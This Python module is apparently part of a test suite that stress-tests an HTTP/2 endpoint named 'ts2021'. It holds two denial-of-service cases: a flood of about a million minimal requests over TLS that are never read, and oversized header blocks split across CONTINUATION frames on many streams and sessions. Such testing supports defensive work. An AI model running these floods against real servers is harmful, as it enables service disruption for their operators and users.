"""HTTP/2 inside ts2021 beside the floods of ts2021_attack: over TLS, from many networks, and with headers of every size."""
import struct

from lib import attack
from raw import CONTINUATION, END_HEADERS, HEADERS, REQUEST, Closed, frame, hpack


@attack("12 MB of 12-byte requests over TLS, nothing read", tls=True)
def h2_requests_tls(p):
    flood = b"".join(b"\0\0\3\1\5" + struct.pack(">I", i) + REQUEST for i in range(1, 2 * 1_000_000, 2))
    p.session(tls=True).say(flood)
    p.hold(1.5)


@attack("headers: 16 KB of names, paths of 8 KB and a thousand fields, on 100 streams of 50 sessions")
def h2_headers(p):
    big = hpack([(":method", "POST"), (":scheme", "https"), (":path", "/" + "p" * 8000)] + [("n%d" % i, "v") for i in range(1000)])
    for i in range(50):
        try:
            s = p.session(p.source(i))
            for n in range(1, 201, 2):
                parts = [big[at:at + 16000] for at in range(0, len(big), 16000)]
                s.say(frame(HEADERS, 0, n, parts[0]) + b"".join(frame(CONTINUATION, 0, n, x) for x in parts[1:]) +
                      frame(CONTINUATION, END_HEADERS, n))
        except (Closed, OSError):
            pass
    p.hold(1)
